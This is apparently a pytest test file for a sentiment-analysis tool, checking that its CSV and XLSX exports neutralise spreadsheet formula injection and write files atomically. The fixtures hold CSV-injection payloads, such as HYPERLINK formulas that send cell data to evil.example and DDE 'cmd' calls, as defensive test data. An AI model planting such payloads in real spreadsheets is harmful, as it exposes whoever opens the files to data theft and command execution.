"""Safe output: CSV/XLSX injection neutralised, numbers intact, atomic writes."""

from __future__ import annotations

import zipfile

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from asn_sentiment.errors import OutputError
from asn_sentiment.outputs import (
    FORMULA_TRIGGERS,
    atomic_path,
    needs_neutralising,
    neutralise_cell,
    restore_cell,
    table_writer,
    write_csv,
    write_parquet,
    write_xlsx,
)

# OWASP "CSV Injection": cells must not begin with = + - @ tab or carriage return; the
# issue adds line feed and NUL.
OWASP = ["=", "+", "-", "@", "\t", "\r", "\n", "\x00"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik di sini")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    '＝HYPERLINK("http://evil.example")',
    "- daftar: satu, dua",
]


@pytest.mark.parametrize("first", OWASP)
def test_every_owasp_trigger_is_neutralised(first) -> None:
    assert first in FORMULA_TRIGGERS
    assert neutralise_cell(first + "1+1") == "'" + first + "1+1"


@pytest.mark.parametrize("value", ["-3", "+62", "-0.5", "1e-3", "-", "--", "biasa", "", " =x"])
def test_plain_values_untouched(value) -> None:
    assert neutralise_cell(value) == value


@given(st.text(max_size=40))
def test_neutralised_cells_never_start_with_a_trigger(value) -> None:
    out = neutralise_cell(value)
    assert not needs_neutralising(out)
    assert restore_cell(out) == value


@pytest.fixture
def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "text": PAYLOADS,
            "score": [-3.5, 1.0, -2.0, 0.0, 4.25, -1.0, 2.0, 3.0, -4.0, 5.0, 6.0],
            "count": pd.array([-1, 2, None, 4, 5, 6, 7, 8, 9, 10, 11], dtype="Int64"),
            "as_text": ["-3", "+62", "-", "ok", "=1", "", "a", "b", "c", "d", "e"],
        }
    )


def test_csv_neutralised_and_numbers_survive(tmp_path, frame) -> None:
    path = write_csv(frame, tmp_path / "out.csv")
    back = pd.read_csv(path, keep_default_na=False, dtype={"text": str, "as_text": str})
    assert all(v.startswith("'") for v in back["text"])
    assert back.loc[0, "text"].startswith("'=HYPERLINK(")
    assert back["score"].tolist() == frame["score"].tolist()
    assert pd.read_csv(path)["count"].tolist()[:2] == [-1, 2]
    assert back["as_text"].tolist()[:3] == ["-3", "+62", "-"]
    assert back.loc[4, "as_text"] == "'=1"
    expected = [p.replace("\r", "\n") for p in PAYLOADS]  # CSV line ends are \n
    assert [restore_cell(v) for v in back["text"]] == expected


def test_xlsx_text_cells_are_never_formulas(tmp_path, frame) -> None:
    path = write_xlsx({"results": frame, "bad/name:[x]": frame.head(2)}, tmp_path / "out.xlsx")
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(z.read(n).decode("utf-8") for n in sheets)
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere
    book = load_workbook(path)
    assert book.sheetnames == ["results", "bad_name__x_"]
    ws = book["results"]
    assert [c.value for c in ws[1]] == ["text", "score", "count", "as_text"]
    assert ws.freeze_panes == "A2" and ws["A1"].font.bold
    first = ws["A2"]
    assert first.value.startswith("=HYPERLINK(") and first.data_type == "s" and first.quotePrefix
    assert ws["B2"].value == -3.5 and ws["B2"].data_type == "n"  # numbers stay numbers
    assert ws["C2"].value == -1 and ws["C4"].value is None
    assert ws["D2"].value == "-3" and ws["D2"].data_type == "s" and not ws["D2"].quotePrefix


def test_xlsx_illegal_characters_and_long_cells(tmp_path) -> None:
    frame = pd.DataFrame({"t": ["a\x01b\x0bc", "x" * 40_000]})
    ws = load_workbook(write_xlsx({"s": frame}, tmp_path / "x.xlsx"))["s"]
    assert ws["A2"].value == "a\ufffdb\ufffdc"
    assert len(ws["A3"].value) == 32_767


def test_parquet_roundtrip(tmp_path, frame) -> None:
    pytest.importorskip("pyarrow")
    back = pd.read_parquet(write_parquet(frame, tmp_path / "out.parquet"))
    assert back["text"].tolist() == PAYLOADS  # parquet is not a spreadsheet: values as they are
    assert back["score"].tolist() == frame["score"].tolist()


def test_parquet_without_pyarrow_is_a_clear_error(tmp_path, frame, monkeypatch) -> None:
    import builtins

    real_import = builtins.__import__

    def no_pyarrow(name, *args, **kwargs):
        if name.startswith("pyarrow"):
            raise ImportError(name)
        return real_import(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", no_pyarrow)
    with pytest.raises(OutputError) as info:
        write_parquet(frame, tmp_path / "out.parquet")
    assert "asn-sentiment[parquet]" in info.value.message("en")
    assert not list(tmp_path.iterdir())


def test_failed_write_keeps_the_old_file_and_leaves_no_temp(tmp_path, frame) -> None:
    path = tmp_path / "out.csv"
    path.write_text("old")
    with pytest.raises(RuntimeError), table_writer(path) as writer:
        writer.write(frame)
        raise RuntimeError("disk full")
    assert path.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
    with atomic_path(path) as tmp:
        tmp.write_text("new")
        assert path.read_text() == "old"  # not visible before the rename
    assert path.read_text() == "new"


def test_unknown_output_format(tmp_path) -> None:
    with pytest.raises(OutputError) as info, table_writer(tmp_path / "x.doc"):
        pass
    assert "csv, xlsx, parquet" in info.value.message("en")


def test_hyperlink_comment_neutralised_in_every_output(tmp_path, write_csv) -> None:
    """Acceptance: a comment starting with =HYPERLINK( is inert in results.csv and in exports."""
    from asn_sentiment.analysis import analyze
    from asn_sentiment.store import export, ingest_files

    payload = '=HYPERLINK("http://evil.example/?d="&A1,"Klik untuk detail")'
    src = write_csv(
        "k.csv",
        "Tanggal,Komentar\n"
        f'14/03/2026,"{payload.replace(chr(34), chr(34) * 2)}"\n'
        "15/03/2026,aplikasi sering error di kantor kami\n",
    )
    analyze([src], tmp_path / "out")
    results = pd.read_csv(tmp_path / "out" / "results.csv", keep_default_na=False)
    assert results.loc[0, "text"] == "'" + payload and results.loc[0, "Komentar"] == "'" + payload
    db = tmp_path / "asn.db"
    ingest_files(db, [src])
    export(db, tmp_path / "all.csv")
    export(db, tmp_path / "all.xlsx")
    assert pd.read_csv(tmp_path / "all.csv").loc[0, "text"] == "'" + payload
    ws = load_workbook(tmp_path / "all.xlsx").active
    cells = [c for row in ws.iter_rows() for c in row if c.value == payload]
    assert len(cells) == 2 and all(c.data_type == "s" and c.quotePrefix for c in cells)
    with zipfile.ZipFile(tmp_path / "all.xlsx") as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
